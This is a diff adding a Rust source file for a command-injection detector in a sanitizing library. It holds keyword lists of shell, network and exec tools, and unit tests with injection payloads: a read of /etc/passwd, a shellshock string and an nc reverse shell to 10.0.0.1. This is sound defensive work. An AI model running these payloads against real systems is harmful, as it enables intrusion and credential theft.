@@ -1,0 +1,560 @@
+//! OS command injection: a shell separator followed by a command.
+//!
+//! A separator (`;`, `|`, `||`, `&`, `&&`, a newline, `$(`, a backtick,
+//! `${`) is ordinary in prose; what makes a command is what follows it: a
+//! command name, and arguments shaped like a shell's (an option, a path, a
+//! redirection, an address, nothing at all). "drop me a line; cat lovers
+//! welcome" has a separator and a command name, but `lovers` is no shell
+//! argument; `; cat /etc/passwd` is. Form encoding's `+` counts as a space.
+
+use crate::detect::keywords::Keywords;
+use crate::detect::{Category, Detector, Finding, Normalized, Strictness};
+use std::sync::LazyLock;
+
+/// Commands no value names except to run them, wherever they appear.
+const COMMAND_NAME_LIST: &[&str] = &[
+    "whoami",
+    "ifconfig",
+    "ipconfig",
+    "netstat",
+    "nslookup",
+    "systeminfo",
+    "uname -",
+    "/bin/sh",
+    "/bin/bash",
+    "cmd.exe",
+    "powershell -",
+];
+
+static EXEC_NAMES: LazyLock<Keywords> = LazyLock::new(|| Keywords::new(EXEC_FUNCTIONS));
+static COMMAND_NAMES: LazyLock<Keywords> = LazyLock::new(|| Keywords::new(COMMAND_NAME_LIST));
+
+/// Commands no prose uses: any argument will do.
+const UNMISTAKABLE: &[&str] = &[
+    "whoami",
+    "uname",
+    "ifconfig",
+    "ipconfig",
+    "netstat",
+    "wget",
+    "curl",
+    "nslookup",
+    "powershell",
+    "certutil",
+    "bitsadmin",
+    "wmic",
+    "tasklist",
+    "systeminfo",
+    "ncat",
+    "netcat",
+    "xterm",
+    "telnet",
+    "tftp",
+    "chmod",
+    "chown",
+    "useradd",
+    "crontab",
+    "mkfifo",
+    "busybox",
+    "socat",
+    "base64",
+    "xxd",
+    "nohup",
+    "printenv",
+    "getent",
+    "traceroute",
+    "tracert",
+    "rundll32",
+    "regsvr32",
+    "mshta",
+    "cscript",
+    "wscript",
+    "schtasks",
+    "icacls",
+    "cacls",
+    "vssadmin",
+    "killall",
+    "pkill",
+    "nping",
+    "perl",
+    "python",
+    "python3",
+    "ruby",
+    "php",
+    "bash",
+    "zsh",
+    "ksh",
+    "gcc",
+    "netsh",
+    "sysinfo",
+    "lsof",
+    "cmd.exe",
+    "powershell.exe",
+    "nmap",
+];
+
+/// Functions of PHP and other server languages that run a command.
+const EXEC_FUNCTIONS: &[&str] = &[
+    "system(",
+    "exec(",
+    "passthru(",
+    "shell_exec(",
+    "popen(",
+    "proc_open(",
+    "pcntl_exec(",
+    "phpinfo(",
+    "assert(",
+    "eval(",
+    "os.system(",
+    "subprocess.",
+    "runtime.getruntime(",
+];
+
+/// Commands that are not English words, though short: a shell-shaped argument or none.
+const DISTINCT: &[&str] = &[
+    "id",
+    "whoami",
+    "uname",
+    "ifconfig",
+    "ipconfig",
+    "systeminfo",
+    "sysinfo",
+    "pwd",
+    "ls",
+    "dir",
+    "netstat",
+    "nc",
+    "ncat",
+    "netcat",
+    "wget",
+    "curl",
+    "bash",
+    "sh",
+    "zsh",
+    "ksh",
+    "csh",
+    "dash",
+    "cmd",
+    "cmd.exe",
+    "powershell",
+    "pwsh",
+    "python",
+    "python3",
+    "perl",
+    "ruby",
+    "php",
+    "nslookup",
+    "nmap",
+    "chmod",
+    "chown",
+    "rm",
+    "mv",
+    "cp",
+    "xterm",
+    "telnet",
+    "tftp",
+    "certutil",
+    "bitsadmin",
+    "wmic",
+    "tasklist",
+    "taskkill",
+    "uname",
+    "hostname",
+    "passwd",
+    "useradd",
+    "ps",
+    "gcc",
+    "xxd",
+    "base64",
+    "nohup",
+    "busybox",
+    "crontab",
+    "mkfifo",
+    "socat",
+    "lua",
+    "node",
+    "sudo",
+    "su",
+    "env",
+    "printenv",
+    "getent",
+    "dig",
+    "traceroute",
+    "tracert",
+    "rundll32",
+    "regsvr32",
+    "mshta",
+    "cscript",
+    "wscript",
+    "schtasks",
+    "icacls",
+    "cacls",
+    "ipconfig.exe",
+    "net.exe",
+    "sc.exe",
+    "vssadmin",
+    "arp",
+    "route",
+    "lsof",
+    "killall",
+    "pkill",
+    "awk",
+    "sed",
+    "grep",
+    "egrep",
+    "xargs",
+    "tee",
+    "nping",
+];
+
+/// Commands that are also words of prose: they need a shell-shaped argument.
+const COMMON: &[&str] = &[
+    "cat", "echo", "sleep", "type", "find", "more", "less", "head", "tail", "kill", "set", "start",
+    "copy", "del", "net", "reg", "ping", "cd", "touch", "which", "timeout", "expr", "sort", "mail",
+    "exit", "print", "who", "time", "date", "ver", "vol", "mkdir", "rmdir", "export", "exec",
+    "eval", "source", "call", "ftp", "ssh", "scp", "tar", "zip", "unzip", "chdir", "tree",
+    "attrib", "at", "uniq", "wc", "od", "nl", "diff", "file", "stat", "tac", "rev", "strings",
+    "system", "shutdown", "reboot", "halt", "wall", "finger", "last",
+];
+
+/// Detects OS command injection.
+///
+/// ```
+/// use rampart_sanitize::{CommandInjectionDetector, Detector};
+///
+/// let c = CommandInjectionDetector::default();
+/// assert!(c.scan("x; cat /etc/passwd").is_some());
+/// assert!(c.scan("a|id").is_some());
+/// assert!(c.scan("$(whoami)").is_some());
+/// assert!(c.scan("drop me a line; cat lovers welcome").is_none());
+/// assert!(c.scan("Tom & Jerry").is_none());
+/// ```
+#[derive(Debug, Clone, Copy, Default)]
+pub struct CommandInjectionDetector {
+    strictness: Strictness,
+}
+
+impl CommandInjectionDetector {
+    /// A detector at `strictness`.
+    pub fn new(strictness: Strictness) -> Self {
+        Self { strictness }
+    }
+
+    fn scan_text(&self, text: &str) -> Option<Finding> {
+        let s = text.replace("\\n", "\n");
+        let b = s.as_bytes();
+        let strict = self.strictness.strict();
+        let found = |rule: &str, start: usize, end: usize| {
+            Some(Finding::new(Category::CommandInjection, rule, start..end))
+        };
+        if let Some(p) = s.find("() {") {
+            return found("shellshock", p, p + 4);
+        }
+        // Command substitution: `$(...)`, backticks, `${...}` holding a command.
+        for (open, close) in [("$(", ')'), ("`", '`'), ("${", '}')] {
+            let mut from = 0;
+            while let Some(p) = s[from..].find(open) {
+                let at = from + p;
+                from = at + open.len();
+                // Bounded: a command inside a substitution is short.
+                let window = &b[from..b.len().min(from + 256)];
+                let inner = &window[..window
+                    .iter()
+                    .position(|&c| c == close as u8)
+                    .unwrap_or(window.len())];
+                let inner = String::from_utf8_lossy(inner);
+                if command_at(inner.as_bytes(), 0, true).is_some()
+                    || (strict && !inner.trim().is_empty())
+                {
+                    return found("substitution", at, from);
+                }
+            }
+        }
+        if let Some(p) = s.find("<!--#") {
+            // Server-side includes: `<!--#exec cmd="..."-->`.
+            let directive = &s[p + 5..];
+            if directive.starts_with("exec")
+                || directive.starts_with("include")
+                || directive.starts_with("echo")
+            {
+                return found("server-side-include", p, p + 5);
+            }
+        }
+        for (f, p) in EXEC_NAMES.all(&s) {
+            let word_start = p == 0 || !(b[p - 1].is_ascii_alphanumeric() || b[p - 1] == b'_');
+            let arg = s[p + f.len()..].trim_start();
+            if word_start && (f.ends_with('.') || arg.starts_with(['"', '\'', '$', '`', ')'])) {
+                return found("exec-function", p, p + f.len());
+            }
+        }
+        for (name, p) in COMMAND_NAMES.all(&s) {
+            let bounded = p == 0 || !b[p - 1].is_ascii_alphanumeric();
+            let after = b.get(p + name.len());
+            if bounded && after.is_none_or(|c| !c.is_ascii_alphanumeric()) {
+                return found("command-name", p, p + name.len());
+            }
+        }
+        if start_command(b) {
+            return found(
+                "command-line",
+                0,
+                b.iter().position(|c| *c == b' ').unwrap_or(b.len()),
+            );
+        }
+        let mut i = 0;
+        while i < b.len() {
+            let c = b[i];
+            let sep = match c {
+                b';' | b'|' | b'\n' | b'\r' => 1,
+                b'&' if b.get(i + 1) == Some(&b'&') => 2,
+                b'&' => 1,
+                _ => 0,
+            };
+            if sep == 0 {
+                i += 1;
+                continue;
+            }
+            let mut k = i + sep;
+            if matches!(b.get(k), Some(b'|' | b'&')) {
+                k += 1;
+            }
+            let net = s[k..].trim_start_matches([' ', '+']);
+            if command_at(b, k, false).is_some()
+                || ((net.starts_with("net ") || net.starts_with("reg "))
+                    && start_command(net.as_bytes()))
+            {
+                return found("separator-command", i, k);
+            }
+            i = k;
+        }
+        let first = s
+            .trim_start()
+            .split([' ', '+', '\t'])
+            .next()
+            .unwrap_or_default();
+        if strict
+            && (command_at(b, 0, false).is_some()
+                || DISTINCT.contains(&first)
+                || COMMON.contains(&first)
+                || UNMISTAKABLE.contains(&first))
+        {
+            return found("command", 0, 1);
+        }
+        None
+    }
+}
+
+/// Whether a command (name and shell-shaped arguments) starts at `k`,
+/// after spaces, `+`, quotes or an opening parenthesis or brace.
+fn command_at(b: &[u8], mut k: usize, inside: bool) -> Option<usize> {
+    // Bounded, so that a run of separators costs linear time overall.
+    let limit = b.len().min(k + 16);
+    while k < limit
+        && matches!(
+            b[k],
+            b' ' | b'\t' | b'+' | b'\'' | b'"' | b'(' | b'{' | b'\n'
+        )
+    {
+        k += 1;
+    }
+    let start = k;
+    // A path to a program: `/bin/sh`, `/usr/bin/id`, `c:\windows\...`.
+    let word_end = k + b[k..]
+        .iter()
+        .take_while(|c| c.is_ascii_alphanumeric() || matches!(c, b'.' | b'_' | b'-' | b'/' | b'\\'))
+        .count();
+    let word = std::str::from_utf8(&b[start..word_end]).ok()?;
+    if word.is_empty() {
+        return None;
+    }
+    let name = word.rsplit(['/', '\\']).next().unwrap_or(word);
+    let pathed = word.starts_with('/')
+        && word.len() > 1
+        && (word.starts_with("/bin/")
+            || word.starts_with("/usr/")
+            || word.starts_with("/sbin/")
+            || word.starts_with("/tmp/"));
+    let unmistakable = UNMISTAKABLE.contains(&name);
+    let distinct = DISTINCT.contains(&name) || unmistakable;
+    let common = COMMON.contains(&name);
+    if !(distinct || common || pathed) {
+        return None;
+    }
+    // What follows the name.
+    let rest = &b[word_end..];
+    let arg_start = rest
+        .iter()
+        .position(|c| !matches!(c, b' ' | b'\t' | b'+'))
+        .unwrap_or(rest.len());
+    let arg = &rest[arg_start..];
+    let spaced = arg_start > 0;
+    let shell_arg = arg.is_empty()
+        || matches!(
+            arg[0],
+            b';' | b'|' | b'&' | b'>' | b'<' | b'`' | b'$' | b'\n' | b'\r' | b')' | b'}' | b'#'
+        )
+        || (spaced
+            && matches!(
+                arg[0],
+                b'-' | b'/' | b'\\' | b'%' | b'"' | b'\'' | b'~' | b'*' | b'.' | b'0'..=b'9'
+            ))
+        || (spaced && arg.get(1) == Some(&b':') && arg[0].is_ascii_alphabetic())
+        || (inside && (spaced || arg[0] == b'('))
+        || (unmistakable && spaced);
+    if !shell_arg {
+        // `net user`, `sleep 5` handled above; a distinct command with a
+        // plain word argument (`nc host 4444`, `ping host`) still counts
+        // when a second shell-shaped argument follows.
+        if distinct && spaced {
+            let next = arg
+                .iter()
+                .position(|c| *c == b' ' || *c == b'+')
+                .map(|p| &arg[p + 1..]);
+            if next.is_some_and(|n| {
+                matches!(
+                    n.first(),
+                    Some(b'-' | b'/' | b'0'..=b'9' | b'>' | b'|' | b';' | b'&')
+                )
+            }) {
+                return Some(start);
+            }
+        }
+        return None;
+    }
+    // A common word right before punctuation that ends a sentence is prose.
+    if common && !spaced && matches!(arg.first(), Some(b')' | b'}' | b'#')) && !inside {
+        return None;
+    }
+    Some(start)
+}
+
+/// A value that is a command line by itself: an unmistakable command, or
+/// a command with an option, a path or a redirection as its first argument.
+fn start_command(b: &[u8]) -> bool {
+    let lead = b.iter().take_while(|c| c.is_ascii_whitespace()).count();
+    let b = &b[lead..];
+    let end = b
+        .iter()
+        .take_while(|c| c.is_ascii_alphanumeric() || matches!(c, b'.' | b'_' | b'-'))
+        .count();
+    let Ok(name) = std::str::from_utf8(&b[..end]) else {
+        return false;
+    };
+    let rest = &b[end..];
+    let spaced = rest.first() == Some(&b' ');
+    let arg = &rest[rest.iter().take_while(|c| **c == b' ').count()..];
+    if spaced && matches!(name, "sleep" | "ping" | "timeout") && arg.iter().all(u8::is_ascii_digit)
+    {
+        return true;
+    }
+    if spaced && matches!(name, "which" | "whereis" | "type" | "command") {
+        // Probing for a tool: `which nc`.
+        let tool: Vec<u8> = arg
+            .iter()
+            .take_while(|c| c.is_ascii_alphanumeric())
+            .copied()
+            .collect();
+        let tool = std::str::from_utf8(&tool).unwrap_or_default();
+        if tool.len() == arg.len() && (UNMISTAKABLE.contains(&tool) || DISTINCT.contains(&tool)) {
+            return true;
+        }
+    }
+    if spaced && matches!(name, "net" | "reg") {
+        let sub: Vec<u8> = arg
+            .iter()
+            .take_while(|c| c.is_ascii_alphabetic())
+            .copied()
+            .collect();
+        if matches!(
+            &sub[..],
+            b"user"
+                | b"view"
+                | b"localgroup"
+                | b"share"
+                | b"use"
+                | b"session"
+                | b"add"
+                | b"query"
+                | b"delete"
+                | b"export"
+                | b"save"
+        ) {
+            return true;
+        }
+    }
+    let shaped = spaced
+        && (matches!(
+            arg.first(),
+            Some(b'-' | b'/' | b'\\' | b'>' | b'|' | b'$' | b'%')
+        ) || (arg.get(1) == Some(&b':')
+            && arg.get(2).is_some_and(|c| matches!(c, b'/' | b'\\'))));
+    (UNMISTAKABLE.contains(&name) || DISTINCT.contains(&name) || COMMON.contains(&name)) && shaped
+}
+
+impl Detector for CommandInjectionDetector {
+    fn category(&self) -> Category {
+        Category::CommandInjection
+    }
+
+    fn scan_normalized(&self, input: &Normalized<'_>) -> Option<Finding> {
+        input
+            .views()
+            .find_map(|(text, decoded)| self.scan_text(text).map(|f| f.in_decoded(decoded)))
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn hit(s: &str) -> bool {
+        CommandInjectionDetector::default().scan(s).is_some()
+    }
+
+    #[test]
+    fn separators_followed_by_commands() {
+        for s in [
+            "; id",
+            "a;id",
+            "|id|",
+            "& whoami",
+            "&& ls -la /",
+            "x%0acat%20/etc/passwd",
+            "`id`",
+            "$(sleep 5)",
+            "a);/usr/bin/id",
+            "+|+dir+c:/",
+            "() { :;}; /bin/bash -c id",
+            "; ping -c 3 127.0.0.1",
+            "| sleep 10",
+            "'; nc -e /bin/sh 10.0.0.1 4444",
+        ] {
+            assert!(hit(s), "{s}");
+        }
+    }
+
+    #[test]
+    fn prose_with_separators_passes() {
+        for s in [
+            "drop me a line; cat lovers welcome",
+            "1 & 2",
+            "Tom & Jerry",
+            "salt & pepper; time to eat",
+            "fish | chips",
+            "price: $(see below)",
+            "Dear Sir,\nplease find attached",
+            "R&D; sort of",
+            "AT&T",
+        ] {
+            assert!(!hit(s), "{s}");
+        }
+    }
+
+    #[test]
+    fn strict_flags_a_bare_command_line() {
+        let strict = CommandInjectionDetector::new(Strictness::Strict);
+        assert!(strict.scan("ls docs").is_some());
+        assert!(!hit("ls docs"));
+        assert!(hit("sleep 5"));
+    }
+}
